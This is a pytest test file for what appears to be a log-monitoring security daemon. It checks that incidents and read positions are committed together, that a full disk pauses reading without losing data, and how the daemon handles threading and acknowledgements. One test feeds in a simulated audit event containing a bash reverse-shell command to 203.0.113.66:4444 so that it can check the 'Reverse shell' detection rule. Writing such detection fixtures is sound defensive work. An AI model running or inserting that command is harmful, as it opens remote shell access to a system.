"""What was caused is stored with the position reached; a store that cannot write pauses reading and drops nothing."""

import asyncio
import contextlib
import itertools
import threading
from collections.abc import Callable, Container, Iterator
from pathlib import Path

import pytest

from daemon.assembly import build_flow
from daemon.channel import ClosedError
from daemon.cli.demo.scenario import Execution, execve
from daemon.config import Alerts, Config, Webhook, read_rule_files
from daemon.detection.rules import parse_rules
from daemon.enrichment.redact import Redactor
from daemon.events.readers import build_reader
from daemon.flow import Flow, Outcome
from daemon.model import Checkpoint, Forgotten, Lines, Lost, Position, Sample, Snapshot, Transient
from daemon.pipeline import Pipeline
from daemon.side_thread import Aside, SideThread, at_once
from daemon.sources import Handed
from daemon.state import Commit
from daemon.state.store import SqliteStore
from daemon.telemetry import Board, HealthState, Metrics
from tests.doubles.values import T0
from tests.test_flow import SSHD, a_flow, lines


class Full(SqliteStore):
    """A store whose disk is full for the first attempts."""

    failures = 2

    async def commit(self, batch: Commit) -> None:
        if self.failures:
            self.failures -= 1
            raise Transient("database or disk is full", why="disk_full")
        await super().commit(batch)


@pytest.mark.parametrize("kind", [SqliteStore, Full])
async def test_nothing_is_lost_and_position_and_incident_arrive_together(
    tmp_path: Path, kind: type[SqliteStore]
) -> None:
    store, board, freed = kind(tmp_path, ballast_bytes=0), Board(lambda: 0.0), []
    room = iter([False, True, False, False, True])  # what was given up is not ours to use
    store.open()
    slept = []

    async def sleep(seconds: float) -> None:
        slept.append(seconds)

    pipeline = Pipeline(
        a_flow(), store, alerts=Alerts(), webhooks=[Webhook(name="ops", url="https://hooks.example/x")],
        waits_for_memory=True, board=board, metrics=Metrics(), now=lambda: T0, monotonic=lambda: 0.0,
        sleep=sleep, stored=lambda: None, no_room=lambda: freed.append(1),
        has_room=lambda: next(room),
    )  # fmt: skip
    item = lines("".join(SSHD.format(f"{number:03}") for number in range(9)))
    await pipeline.emit(item)
    await pipeline.close()

    await pipeline.run()

    assert await store.checkpoints() == [item.checkpoint]
    incidents = await store.incidents(limit=9)
    assert {incident.rule.title for incident in incidents} == {"SSH brute force from one address"}
    assert (await store.next_due_at("ops")) == T0 + 3
    assert (len(freed), len(slept)) == ((2, 5) if kind is Full else (0, 0))
    health = board.get("store")
    assert health is not None
    assert health.state is HealthState.ok
    store.close()


async def test_a_forgotten_file_leaves_no_position_behind_and_one_that_comes_back_does(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path, ballast_bytes=0)
    store.open()
    pipeline = Pipeline(
        a_flow(), store, alerts=Alerts(), webhooks=(), waits_for_memory=False, board=Board(lambda: 0.0),
        metrics=Metrics(), now=lambda: T0, monotonic=lambda: 0.0, sleep=asyncio.sleep, stored=lambda: None,
        no_room=lambda: None,
    )  # fmt: skip
    item = lines(SSHD.format("001"))
    source, path = item.source, item.checkpoint.position.path
    other = Checkpoint(source, Position("/b", "1:2:x", 0))
    for one in (
        item,
        Forgotten(source, path),
        Lines(source, b"", other.position, other),
        Forgotten(source, "/b"),
        item,
    ):
        await pipeline.emit(one)
    await pipeline.close()

    await pipeline.run()

    assert await store.checkpoints() == [item.checkpoint]
    assert set(pipeline.positions) == {(source, path)}
    store.close()


class Noting(SqliteStore):
    """A store that notes what each transaction held."""

    def __init__(self, directory: Path) -> None:
        super().__init__(directory, ballast_bytes=0)
        self.commits: list[Commit] = []

    async def commit(self, batch: Commit) -> None:
        self.commits.append(batch)
        await super().commit(batch)


@pytest.fixture
def noting(tmp_path: Path) -> Iterator[Noting]:
    store = Noting(tmp_path)
    store.open()
    yield store
    store.close()


def a_pipeline(
    store: Noting, *, flow: Flow | None = None, monotonic: Callable[[], float] = lambda: 0.0,
    now: Callable[[], float] = lambda: T0, aside: Aside = at_once,
) -> Pipeline:  # fmt: skip
    async def sleep(seconds: float) -> None:
        del seconds

    return Pipeline(
        flow or a_flow(), store, alerts=Alerts(), webhooks=[], waits_for_memory=False, board=Board(lambda: 0.0),
        metrics=Metrics(), now=now, monotonic=monotonic, sleep=sleep, stored=lambda: None, no_room=lambda: None,
        aside=aside,
    )  # fmt: skip


TOO_LONG = Lost("auth", "line_too_long", 1, T0, "a line")


async def test_a_loss_and_the_position_behind_it_arrive_together(noting: Noting) -> None:
    """The worst bug: the loss is stored, a kill comes, and whoever reads on from the old position counts it again."""
    pipeline = a_pipeline(noting)
    item = lines(SSHD.format("001"))
    for one in (TOO_LONG, item, TOO_LONG, lines(SSHD.format("002"), item.checkpoint.position.offset)):
        await pipeline.emit(one)
    await pipeline.close()

    await pipeline.run()

    assert all(commit.checkpoints for commit in noting.commits if commit.incidents)
    (incident,) = await noting.incidents(limit=9)
    assert (incident.entity, incident.count) == ("source=auth, why=line_too_long", 2)


async def test_a_loss_before_a_stop_is_left_to_who_reads_it_again(noting: Noting) -> None:
    pipeline = a_pipeline(noting)
    await pipeline.emit(TOO_LONG)
    await pipeline.close()

    await pipeline.run()

    assert await noting.incidents(limit=9) == []


async def test_a_loss_behind_which_no_lines_come_is_said_a_second_later(noting: Noting) -> None:
    seconds = itertools.count()
    pipeline = a_pipeline(noting, monotonic=lambda: float(next(seconds)))
    await pipeline.emit(TOO_LONG)
    for _ in range(20):
        await pipeline.emit(Sample("host", "host_metrics", T0, {}, {"cpu.percent": 1.0}))
    await pipeline.close()

    await pipeline.run()

    assert [incident.count for incident in await noting.incidents(limit=9)] == [1]


async def test_losses_that_wait_are_bounded(noting: Noting) -> None:
    pipeline = a_pipeline(noting)

    async def emit() -> None:
        for _ in range(150):
            await pipeline.emit(TOO_LONG)
        await pipeline.close()

    async with asyncio.TaskGroup() as group:
        group.create_task(emit())
        group.create_task(pipeline.run())

    assert [incident.count for incident in await noting.incidents(limit=9)] == [50]


class Elsewhere(Flow):
    """A flow that notes on which threads it is asked anything, and whether it ever is by two at a time."""

    def __init__(self) -> None:
        vars(self).update(vars(a_flow()))
        self.asked: dict[str, set[int]] = {}
        self.busy = self.overlapped = False

    @contextlib.contextmanager
    def _noting(self, what: str) -> Iterator[None]:
        self.overlapped, self.busy = self.overlapped or self.busy, True
        self.asked.setdefault(what, set()).add(threading.get_ident())
        yield
        self.busy = False

    def feed(self, item: Lines | Sample | Lost) -> Outcome:
        with self._noting("feed"):
            return super().feed(item)

    def tick(self, now: float, behind: Container[str] = ()) -> Outcome:
        with self._noting("tick"):
            return super().tick(now, behind)

    def changes(self) -> tuple[Snapshot, ...]:
        with self._noting("changes"):
            return super().changes()


async def test_a_slow_flow_never_holds_the_loop_and_is_asked_one_thing_at_a_time(noting: Noting) -> None:
    """By this clock everything takes a second, so not one piece may be done on the loop."""
    flow, seconds = Elsewhere(), itertools.count()
    thread = SideThread("flow", monotonic=lambda: float(next(seconds)))
    pipeline = a_pipeline(noting, flow=flow, aside=thread, monotonic=lambda: float(next(seconds)))
    async with asyncio.TaskGroup() as group:
        group.create_task(pipeline.run())
        at = 0
        for number in range(40):
            item = lines(SSHD.format(f"{number:03}") * 3, at)
            at = item.checkpoint.position.offset
            await pipeline.emit(item)
        await pipeline.close()
    thread.close()

    assert set(flow.asked) == {"feed", "tick", "changes"}
    assert threading.get_ident() not in set().union(*flow.asked.values())
    assert not flow.overlapped
    assert pipeline.taken == 40
    titles = {incident.rule.title for incident in await noting.incidents(limit=9)}
    assert "SSH brute force from one address" in titles
    assert await noting.checkpoints() == [item.checkpoint]


async def test_no_time_passes_for_a_source_while_lines_of_it_wait(noting: Noting) -> None:
    """The worst bug: under load an event is closed as incomplete while its other half stands in the queue."""
    shell = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
    whole = execve(Execution(shell, "/usr/bin/bash", 5000, 900, "www-data", 33), T0, 4100)
    head = whole.index(b"\n") + 1
    redactor, clock = Redactor(), itertools.count(step=5)
    reader = build_reader("audit", "auditd", host="web-1", now=lambda: T0, usernames=str, redact=redactor.text)
    flow = build_flow(Config(), parse_rules(read_rule_files(["shipped"])), {"audit": reader}, redactor)
    pipeline = a_pipeline(noting, flow=flow, monotonic=lambda: float(next(clock)), now=lambda: T0 + float(next(clock)))

    def part(start: int, end: int) -> Lines:
        def at(offset: int) -> Position:
            return Position("/audit.log", "1:1", offset)

        return Lines("audit", whole[start:end], at(start), Checkpoint("audit", at(end)))

    await pipeline.emit(part(0, head))
    for _ in range(60):
        await pipeline.emit(part(head, head))
    await pipeline.emit(part(head, len(whole)))
    await pipeline.close()

    await pipeline.run()

    found = await noting.incidents(limit=9)
    assert [incident.rule.title for incident in found if "incomplete" in incident.entity] == []
    assert "Reverse shell" in {incident.rule.title for incident in found}


async def test_what_a_source_could_not_hand_over_does_not_count_as_waiting(noting: Noting) -> None:
    """The worst bug: a source that was stopped while it waited for room is never asked for what time completes."""
    flow = Elsewhere()
    pipeline = a_pipeline(noting, flow=flow)
    await pipeline.close()
    with pytest.raises(ClosedError):
        await pipeline.emit(lines(SSHD.format("001")))
    seen: list[Container[str]] = []

    def tick(now: float, behind: Container[str] = ()) -> Outcome:
        seen.append(behind)
        return Flow.tick(flow, now, behind)

    vars(flow)["tick"] = tick

    await pipeline.run()

    assert seen == [set()]


async def test_who_waits_hears_only_when_it_is_stored_and_nothing_is_to_be_read_again(noting: Noting) -> None:
    """The worst bug: an acknowledgement before the transaction, a kill, and what was acknowledged is gone."""
    heard: list[int] = []
    pipeline = a_pipeline(noting)
    for number in range(3):
        item = lines(SSHD.format(f"{number:03}"))
        await pipeline.emit(Handed(item, lambda: heard.append(len(noting.commits))))
    await pipeline.close()

    await pipeline.run()

    assert heard == [1, 1, 1]  # one transaction for all that came together, and nobody before it
    assert all(commit.checkpoints == () for commit in noting.commits)
    assert pipeline.positions == {}


async def test_who_waits_does_not_hear_while_the_store_cannot_write(tmp_path: Path) -> None:
    store, heard = Full(tmp_path, ballast_bytes=0), list[int]()
    store.open()
    slept: list[list[int]] = []

    async def sleep(seconds: float) -> None:
        slept.append(list(heard))

    pipeline = Pipeline(
        a_flow(), store, alerts=Alerts(), webhooks=[], waits_for_memory=False, board=Board(lambda: 0.0),
        metrics=Metrics(), now=lambda: T0, monotonic=lambda: 0.0, sleep=sleep, stored=lambda: None, no_room=lambda: None,
    )  # fmt: skip
    await pipeline.emit(Handed(lines(SSHD.format("001")), lambda: heard.append(1)))
    await pipeline.close()
    await pipeline.run()
    assert slept == [[], []]
    assert heard == [1]
    store.close()
